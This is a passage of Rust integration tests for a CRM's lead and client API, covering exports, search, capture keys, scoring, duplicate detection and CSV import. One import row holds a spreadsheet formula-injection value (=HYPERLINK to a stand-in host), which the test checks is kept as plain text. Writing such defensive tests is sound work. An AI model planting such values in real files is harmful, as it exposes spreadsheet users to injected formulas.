            "/api/clients",
            json!({"name": "Irfan Qureshi", "email": "irfan@example.in", "phone": "9811100022",
                   "pan": "ABQPQ4321K", "date_of_birth": "1980-02-02",
                   "address": "5 Park Street, Kolkata 700016", "branch": "MUM-01",
                   "relationship_manager": rm.id}),
        )
        .await;
    assert_eq!(s, 201, "{v}");
    app.caught_up().await;
    let (s, _) = app.get_as(&rm, "/api/clients/export").await;
    assert_eq!(s, 403);
    let r = app
        .http
        .get(app.url("/api/clients/export?status=active"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let text = r.text().await.unwrap();
    assert!(!text.contains("ABQPQ4321K"), "{text}");
    let rows = csv_rows(&text);
    assert_eq!(rows.len(), 2, "{rows:?}");
    assert_eq!(rows[1][1], "Irfan Qureshi");
    assert_eq!(rows[1][4], "321K");
    assert_eq!(rows[1][7], "active");
    assert_eq!(exports(app.db().clone()).await, 3);
    let (s, v) = app
        .get("/api/clients/export?branch=not%20a%20branch!")
        .await;
    assert_eq!(s, 422, "{v}");
    app.stop().await;
}

/// Search by the beginning of a name word (three letters or more), through blind-indexed
/// prefixes: leads and clients.
async fn names_are_found_as_an_agent_types(store: Store) {
    let app = App::start(store).await;
    let rm = app.actor(Role::RelationshipManager, Some("MUM-01")).await;
    app.capture(
        json!({"name": "Ramanathan Iyer", "email": "r.iyer@example.in", "source": "website"}),
    )
    .await;
    let (_, p) = app
        .capture(json!({"name": "Ramesh Kumar", "phone": "9833344455", "source": "website"}))
        .await;
    let names = |q: &'static str| {
        let app = &app;
        async move {
            let (s, v) = app
                .get(&format!(
                    "/api/leads?q={q}&sort=created_at&order=asc&min_position={p}"
                ))
                .await;
            assert_eq!(s, 200, "{v}");
            v["items"]
                .as_array()
                .unwrap()
                .iter()
                .map(|i| i["name"].as_str().unwrap().to_string())
                .collect::<Vec<_>>()
        }
    };
    assert_eq!(names("ram").await, ["Ramanathan Iyer", "Ramesh Kumar"]);
    assert_eq!(names("RAMA").await, ["Ramanathan Iyer"]);
    assert_eq!(
        names("ramanathan").await,
        ["Ramanathan Iyer"],
        "a whole word"
    );
    assert_eq!(names("rame%20kum").await, ["Ramesh Kumar"], "every word");
    assert!(
        names("ra").await.is_empty(),
        "two letters match whole words only"
    );
    assert!(names("amana").await.is_empty(), "beginnings, not any part");

    let (s, v) = app
        .post(
            "/api/clients",
            json!({"name": "Vikram Quillfeather", "email": "vq@example.in", "phone": "9811100033",
                   "pan": "ABQPQ4321K", "date_of_birth": "1980-02-02",
                   "address": "5 Park Street, Kolkata 700016", "branch": "MUM-01",
                   "relationship_manager": rm.id}),
        )
        .await;
    assert_eq!(s, 201, "{v}");
    let (_, list) = app
        .get(&format!(
            "/api/clients?q=quill&min_position={}",
            v["position"].as_i64().unwrap()
        ))
        .await;
    assert_eq!(list["total"], 1, "{list}");
    let (_, list) = app.get("/api/clients?q=qui%20vik").await;
    assert_eq!(list["total"], 1, "{list}");
    let (_, list) = app.get("/api/clients?q=feather").await;
    assert_eq!(list["total"], 0, "{list}");
    app.stop().await;
}

/// Web forms capture leads with a capture key (no staff token): issued by admins and shown
/// once, naming source and campaign, capture only, revocable at once, limited per address;
/// the answer never tells whether the person was on file.
async fn web_forms_capture_with_revocable_keys(store: Store) {
    let app = App::start_with(Fresh::new(store).await, |c| {
        c.serve.capture_rate_per_address = 6;
    })
    .await;
    let rm = app.actor(Role::RelationshipManager, Some("MUM-01")).await;
    let terms = json!({"name": "Website: open an account", "source": "website",
                       "campaign": "diwali-2026"});
    let (s, _) = app.post_as(&rm, "/api/capture-keys", terms.clone()).await;
    assert_eq!(s, 403);
    let (s, v) = app
        .post(
            "/api/capture-keys",
            json!({"name": "", "source": "website"}),
        )
        .await;
    assert_eq!(
        (s, v["errors"][0]["field"].as_str()),
        (422, Some("name")),
        "{v}"
    );
    let (s, v) = app.post("/api/capture-keys", terms).await;
    assert_eq!(s, 201, "{v}");
    let key = v["key"].as_str().unwrap().to_string();
    let key_id = v["id"].as_str().unwrap().to_string();
    assert!(key.starts_with("ck_"), "{key}");

    let public = reqwest::Client::new();
    let send = |key: Option<String>, body: serde_json::Value| {
        let mut r = public.post(app.url("/api/public/leads")).json(&body);
        if let Some(k) = key {
            r = r.header("X-Capture-Key", k);
        }
        app.send(r)
    };
    let person = json!({"name": "Kiran Desai", "email": "kiran.desai@example.in",
                        "product_interest": ["mutual_funds"], "notes": "Call about SIPs"});
    let (s, _) = send(None, person.clone()).await;
    assert_eq!(s, 401, "no key");
    let mut wrong = key.clone();
    wrong.pop();
    wrong.push(if key.ends_with('0') { '1' } else { '0' });
    let (s, _) = send(Some(wrong), person.clone()).await;
    assert_eq!(s, 401, "a wrong secret");
    let (s, v) = send(Some(key.clone()), person.clone()).await;
    assert_eq!(s, 202, "{v}");
    assert_eq!(v, json!({"received": true}));
    let (s, v) = send(Some(key.clone()), person.clone()).await;
    assert_eq!(
        (s, v),
        (202, json!({"received": true})),
        "a repeat says the same"
    );
    let (s, v) = send(Some(key.clone()), json!({"name": "No Contact"})).await;
    assert_eq!(s, 422, "{v}");
    app.caught_up().await;
    let (_, list) = app.get("/api/leads?q=kiran.desai@example.in").await;
    assert_eq!(list["total"], 1, "captured once: {list}");
    let id = list["items"][0]["id"].as_str().unwrap();
    let lead = app.lead(id, app.log_head().await).await;
    assert_eq!(lead["channel"], "web_form");
    assert_eq!(lead["source"], "website");
    assert_eq!(lead["source_detail"], "diwali-2026");
    assert_eq!(lead["assignee"], serde_json::Value::Null);
    // The repeat is noted on the lead the person has, with what they wrote.
    let notes = lead["interactions"].as_array().unwrap();
    assert_eq!(notes.len(), 1, "{lead}");
    assert_eq!(notes[0]["direction"], "inbound");
    assert!(
        notes[0]["summary"]
            .as_str()
            .unwrap()
            .contains("Call about SIPs"),
        "{lead}"
    );
    let (_, score) = app.get(&format!("/api/leads/{id}/score")).await;
    assert_eq!(
        score["contributions"][4]["points"], 0,
        "what a web form sends earns no interaction points: {score}"
    );
    let (_, h) = app.get(&format!("/api/leads/{id}/history")).await;
    assert_eq!(h["items"][0]["actor_id"], format!("capture_key:{key_id}"));
    assert_eq!(h["items"][0]["actor_role"], "capture_key");

    // Listed without its secret; revoked at once.
    let (s, v) = app.get("/api/capture-keys").await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(v["items"][0]["id"], key_id.as_str());
    let secret = key.rsplit('_').next().unwrap();
    let digest = {
        use sha2::Digest;
        hex::encode(sha2::Sha256::digest(secret.as_bytes()))
    };
    assert_eq!(secret.len(), 64);
    let listed = v.to_string();
    assert!(!listed.contains(secret), "no secret in the list");
    assert!(!listed.contains(&digest), "nor its digest");
    let (s, v) = app
        .send(
            app.http
                .delete(app.url(&format!("/api/capture-keys/{key_id}?reason=leaked"))),
        )
        .await;
    assert_eq!(s, 200, "{v}");
    let (s, _) = send(
        Some(key.clone()),
        json!({"name": "Lata Menon", "phone": "9899911122"}),
    )
    .await;
    assert_eq!(s, 401, "revoked");
    let (s, _) = app
        .send(
            app.http
                .delete(app.url(&format!("/api/capture-keys/{key_id}"))),
        )
        .await;
    assert_eq!(s, 200, "a repeat changes nothing");
    let (_, v) = app
        .get(&format!(
            "/api/capture-keys?min_position={}",
            app.log_head().await
        ))
        .await;
    assert_eq!(v["items"][0]["revoke_reason"], "leaked");

    // Past the per-address limit (six a minute here): 429.
    let (s, v) = app
        .post(
            "/api/capture-keys",
            json!({"name": "Partner: Acme", "source": "partner"}),
        )
        .await;
    assert_eq!(s, 201, "{v}");
    let other = v["key"].as_str().unwrap().to_string();
    let (s, _) = send(
        Some(other.clone()),
        json!({"name": "Lata Menon", "phone": "9899911122"}),
    )
    .await;
    assert_eq!(s, 202);
    let (s, _) = send(
        Some(other),
        json!({"name": "Mohan Rao", "phone": "9899911133"}),
    )
    .await;
    assert_eq!(s, 429);
    app.stop().await;
}

/// A lead's score with each contribution, adding up to the number lists sort by.
async fn scores_are_explained_factor_by_factor(store: Store) {
    let app = App::start(store).await;
    let (id, _) = app
        .capture(
            json!({"name": "Nandini Shetty", "email": "nandini@example.in",
                        "phone": "9845012345", "source": "referral",
                        "product_interest": ["equity", "mutual_funds"]}),
        )
        .await;
    let (s, v) = app
        .post(
            &format!("/api/leads/{id}/interactions"),
            json!({"kind": "call", "direction": "inbound", "summary": "Asked about SIPs"}),
        )
        .await;
    assert_eq!(s, 201, "{v}");
    let (s, v) = app
        .post(
            &format!("/api/leads/{id}/status"),
            json!({"status": "contacted"}),
        )
        .await;
    assert_eq!(s, 200, "{v}");
    let p = v["position"].as_i64().unwrap();
    let (s, v) = app
        .get(&format!("/api/leads/{id}/score?min_position={p}"))
        .await;
    assert_eq!(s, 200, "{v}");
    let parts: Vec<(String, i64)> = v["contributions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            (
                c["factor"].as_str().unwrap().to_string(),
                c["points"].as_i64().unwrap(),
            )
        })
        .collect();
    let expected = [
        ("source", 20),
        ("stage", 10),
        ("reach", 10),
        ("interest", 6),
        ("interactions", 4 + 3),
        ("follow_ups_kept", 0),
        ("recency", 10),
        ("stated_capacity", 0),
    ];
    assert_eq!(
        parts,
        expected.map(|(f, p)| (f.to_string(), p)).to_vec(),
        "{v}"
    );
    assert_eq!(v["score"], 63);
    assert_eq!(v["listed_score"], 63, "just active: no decay yet");
    let (_, list) = app.get("/api/leads?sort=score").await;
    assert_eq!(list["items"][0]["score"], 63);
    let (s, _) = app
        .get(&format!("/api/leads/{}/score", Uuid::new_v4()))
        .await;
    assert_eq!(s, 404);

    // The prospect states how much they mean to invest: a quarter of 12 per band up.
    let (s, v) = app
        .patch(
            &format!("/api/leads/{id}"),
            json!({"investment_capacity": "25_lakh_to_1_crore"}),
        )
        .await;
    assert_eq!(s, 200, "{v}");
    let p = v["position"].as_i64().unwrap();
    let (_, v) = app
        .get(&format!("/api/leads/{id}/score?min_position={p}"))
        .await;
    let stated = &v["contributions"][7];
    assert_eq!(
        (stated["factor"].as_str(), stated["points"].as_i64()),
        (Some("stated_capacity"), Some(9)),
        "{v}"
    );
    assert_eq!(stated["detail"], "means to invest 25_lakh_to_1_crore");
    assert_eq!(v["score"], 72);
    let lead = app.lead(&id, p).await;
    assert_eq!(lead["investment_capacity"], "25_lakh_to_1_crore");
    let (s, v) = app
        .patch(
            &format!("/api/leads/{id}"),
            json!({"investment_capacity": "a_lot"}),
        )
        .await;
    assert_eq!(s, 400, "an unknown band is refused: {v}");
    let (s, v) = app
        .patch(
            &format!("/api/leads/{id}"),
            json!({"investment_capacity": null}),
        )
        .await;
    assert_eq!(s, 200, "{v}");
    app.stop().await;
}

/// A reassignment by round-robin stays in the lead's branch (its agent's), passing over the
/// agent who has it; with nobody else there it is refused rather than sent to another branch.
async fn round_robin_stays_in_the_leads_branch(store: Store) {
    let app = App::start(store).await;
    let m1 = app.actor(Role::RelationshipManager, Some("MUM-01")).await;
    let m2 = app.actor(Role::RelationshipManager, Some("MUM-01")).await;
    let d1 = app.actor(Role::RelationshipManager, Some("DEL-01")).await;
    let (id, _) = app
        .capture(
            json!({"name": "Omkar Joshi", "email": "omkar@example.in", "source": "website",
                        "assign_to": m1.id}),
        )
        .await;
    let mut seen = Vec::new();
    for _ in 0..3 {
        let (s, v) = app
            .post(
                &format!("/api/leads/{id}/assignment"),
                json!({"round_robin": true}),
            )
            .await;
        assert_eq!(s, 200, "{v}");
        let lead = app.lead(&id, v["position"].as_i64().unwrap()).await;
        seen.push(lead["assignee"].as_str().unwrap().to_string());
    }
    assert_eq!(seen, vec![m2.id.clone(), m1.id.clone(), m2.id.clone()]);
    assert!(!seen.contains(&d1.id), "never to another branch");

    let (other, _) = app
        .capture(
            json!({"name": "Priya Nair", "email": "priya@example.in", "source": "website",
                        "assign_to": d1.id}),
        )
        .await;
    let (s, v) = app
        .post(
            &format!("/api/leads/{other}/assignment"),
            json!({"round_robin": true}),
        )
        .await;
    assert_eq!(s, 409, "{v}");
    assert_eq!(v["type"], "/problems/no-active-agents");
    app.stop().await;
}

/// Near duplicates: the same mailbox once Gmail's dots and `+tags` are set aside, the same
/// name with a transposed mobile number, a shared phone; not a common name alone; within the
/// caller's scope; an archived lead leaves the pairs.
async fn near_duplicates_are_paired_with_a_score_and_reasons(store: Store) {
    let app = App::start(store).await;
    let lead = |name: &str, email: Option<&str>, phone: &str| {
        let mut b = json!({"name": name, "phone": phone, "source": "website"});
        if let Some(e) = email {
            b["email"] = json!(e);
        }
        b
    };
    let (a, _) = app
        .capture(lead("Asha Rao", Some("asha.rao@gmail.com"), "98765 43210"))
        .await;
    let (b, _) = app
        .capture(lead(
            "Rao Asha",
            Some("asharao+ipo@googlemail.com"),
            "9867543210",
        ))
        .await;
    let (c, _) = app.capture(lead("Kiran Shah", None, "9123456780")).await;
    let mut shared = lead("Meena Shah", None, "9123456780");
    shared["allow_duplicate"] = json!(true);
    let (d, _) = app.capture(shared).await;
    app.capture(lead("Ravi Kumar", None, "9000011111")).await;
    let (_, at) = app.capture(lead("Ravi Kumar", None, "9000022222")).await;

    let (s, v) = app.get(&format!("/api/duplicates?min_position={at}")).await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(v["total"], 2, "a common name alone is no pair: {v}");
    let first = &v["items"][0];
    assert_eq!(first["score"], 95);
    assert_eq!(
        first["reasons"],
        json!(["same_mailbox", "same_name_transposed_phone"])
    );
    let ids: Vec<&str> = first["leads"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, [a.as_str(), b.as_str()], "the older lead first");
    assert_eq!(first["leads"][1]["email"], "asharao+ipo@googlemail.com");
    let second = &v["items"][1];
    assert_eq!(
        (second["score"].as_i64(), second["reasons"][0].as_str()),
        (Some(50), Some("same_phone"))
    );
    let ids: Vec<&str> = second["leads"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, [c.as_str(), d.as_str()]);
    let (_, strong) = app.get("/api/duplicates?min_score=60").await;
    assert_eq!(strong["total"], 1);
    let (s, _) = app.get("/api/duplicates?min_score=101").await;
    assert!(s == 400 || s == 422, "{s}");

    // Scope: an agent sees only pairs of leads they may open.
    let rm = app.actor(Role::RelationshipManager, Some("MUM-01")).await;
    let (s, mine) = app.get_as(&rm, "/api/duplicates").await;
    assert_eq!(s, 200, "{mine}");
    assert_eq!(mine["total"], 0, "{mine}");

    // An archived lead leaves the pairs.
    let (s, v) = app
        .send(app.http.delete(app.url(&format!("/api/leads/{b}"))))
        .await;
    assert_eq!(s, 200, "{v}");
    let (_, v) = app
        .get(&format!(
            "/api/duplicates?min_position={}",
            app.log_head().await
        ))
        .await;
    assert_eq!(v["total"], 1, "{v}");
}

/// An import file mixing good, invalid, in-file repeated and already-on-file rows: the good
/// ones are captured, every other row is reported with why, and the same file again imports
/// nothing; admins only; the command line does the same.
async fn a_csv_import_takes_the_good_rows_and_reports_the_rest(store: Store) {
    let app = App::start(store).await;
    app.capture(
        json!({"name": "Existing Person", "email": "existing@example.in",
                       "source": "website"}),
    )
    .await;
    let file = "name,email,phone,source,product_interest,notes\n\
        Asha Rao,asha.rao@example.in,9876543210,referral,equity;mutual_funds,Met at the expo\n\
        Bad Phone,,12345,,,\n\
        Asha Again,ASHA.RAO@example.in,,website,,\n\
        Existing Person,existing@example.in,,,,\n\
        ,noname@example.in,,,,\n\
        Ravi Kumar,,9123456789,walk_in,,\"=HYPERLINK(\"\"http://x\"\")\"\n\
        Source Bad,sb@example.in,,tv,,\n";
    let send = |who: &reqwest::Client, body: &str| {
        app.send(
            who.post(app.url("/api/leads/import"))
                .header("content-type", "text/csv")
                .body(body.to_string()),
        )
    };
    let (s, r) = send(&app.http, file).await;
    assert_eq!(s, 200, "{r}");
    assert_eq!(r["rows"], 7, "{r}");
    assert_eq!(r["imported"], 2, "{r}");
    assert_eq!(r["already_on_file"], 1, "{r}");
    assert_eq!(r["repeated_in_file"], 1, "{r}");
    assert_eq!(r["invalid"], 3, "{r}");
    assert_eq!(r["failed"], 0, "{r}");
    let problems: Vec<(i64, &str)> = r["problems"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| (p["row"].as_i64().unwrap(), p["field"].as_str().unwrap()))
        .collect();
    assert_eq!(
        problems,
        [
            (3, "phone"),
            (4, "row"),
            (5, "row"),
            (6, "name"),
            (8, "source")
        ],
        "{r}"
    );
    assert!(r["problems"][1]["message"]
        .as_str()
        .unwrap()
        .contains("row 2"));
    let first = r["lead_ids"][0].as_str().unwrap().to_string();
    let lead = app.lead(&first, app.log_head().await).await;
    assert_eq!(lead["channel"], "import");
    assert_eq!(lead["source"], "referral");
    assert_eq!(lead["product_interest"], json!(["equity", "mutual_funds"]));
    let second = r["lead_ids"][1].as_str().unwrap();
    let ravi = app.lead(second, app.log_head().await).await;
    assert_eq!(ravi["source"], "walk_in");
    assert_eq!(ravi["notes"], "=HYPERLINK(\"http://x\")", "kept as text");

    // The same file again imports nothing.
    let head = app.log_head().await;
    let (s, again) = app
        .send(
            app.http
                .post(app.url("/api/leads/import"))
                .header("content-type", "text/csv; charset=utf-8")
                .body(file.to_string()),
        )
        .await;
    assert_eq!(s, 200, "{again}");
    assert_eq!(again["imported"], 0, "{again}");
    assert_eq!(again["already_on_file"], 3, "{again}");
    assert_eq!(app.log_head().await, head, "nothing appended");

    // Admins only; a file that cannot be read at all is refused whole.
    let rm = app.actor(Role::RelationshipManager, Some("MUM-01")).await;
    let (s, _) = send(&rm.http, file).await;
    assert_eq!(s, 403);
    let (s, v) = send(&app.http, "name,mobile\nX,9876500000\n").await;
    assert_eq!(
        (s, v["errors"][0]["field"].as_str()),
        (422, Some("body")),
        "{v}"
    );
    assert!(v.to_string().contains("mobile"), "{v}");

    // Rows are named by the line they start on; empty rows are no rows; a repeated column or
    // one the import does not know refuses the file.
    let (s, v) = send(
        &app.http,
        "name,phone\nAnil Menon,9876500001\n\n,,\n,9876500002\n",
    )
    .await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(
        (v["rows"].as_i64(), v["imported"].as_i64()),
        (Some(2), Some(1)),
        "{v}"
    );
    assert_eq!(v["problems"][0]["row"], 5, "{v}");
    let (s, _) = send(&app.http, "name,phone,phone\nX,9876500003,9876500004\n").await;
    assert_eq!(s, 422);
    let (s, v) = send(&app.http, "name,phone\nY Z,9876500005,extra\n").await;
    assert_eq!((s, v["imported"].as_i64()), (200, Some(0)), "{v}");
    assert!(
        v["problems"][0]["message"]
            .as_str()
            .unwrap()
            .contains("3 cells"),
        "{v}"
    );

    // The command line: a new row imported, the old ones reported.
    let dir = std::env::temp_dir().join(format!("crm-import-{}", uuid::Uuid::new_v4().simple()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("leads.csv");
    std::fs::write(&path, format!("{file}Neha Kapoor,neha.k@example.in,,,,\n")).unwrap();
    let out = crate::support::crm(&app, &["import", "leads", path.to_str().unwrap()], &[]).await;
    assert!(
        out.contains("8 row(s): 1 imported, 3 already on file"),
        "{out}"
    );
    assert!(out.contains("row,field,problem"), "{out}");
    let _ = std::fs::remove_dir_all(&dir);

    // A stated investment capacity is a band the score counts; another word is reported.
    let (s, r) = send(
        &app.http,
        "name,phone,investment_capacity\nMeera Iyer,9000000101,Above_1_crore\nTara Sen,9000000102,lots\n",
    )
    .await;
    assert_eq!(s, 200, "{r}");
    assert_eq!(
        (r["imported"].as_i64(), r["invalid"].as_i64()),
        (Some(1), Some(1)),
        "{r}"
    );
    assert_eq!(r["problems"][0]["field"], "investment_capacity", "{r}");
    let (_, list) = app
        .get(&format!(
            "/api/leads?q=meera&min_position={}",
            app.log_head().await
        ))
        .await;
    let meera = list["items"][0]["id"].as_str().unwrap().to_string();
    let lead = app.lead(&meera, app.log_head().await).await;
    assert_eq!(lead["investment_capacity"], "above_1_crore", "{lead}");
}
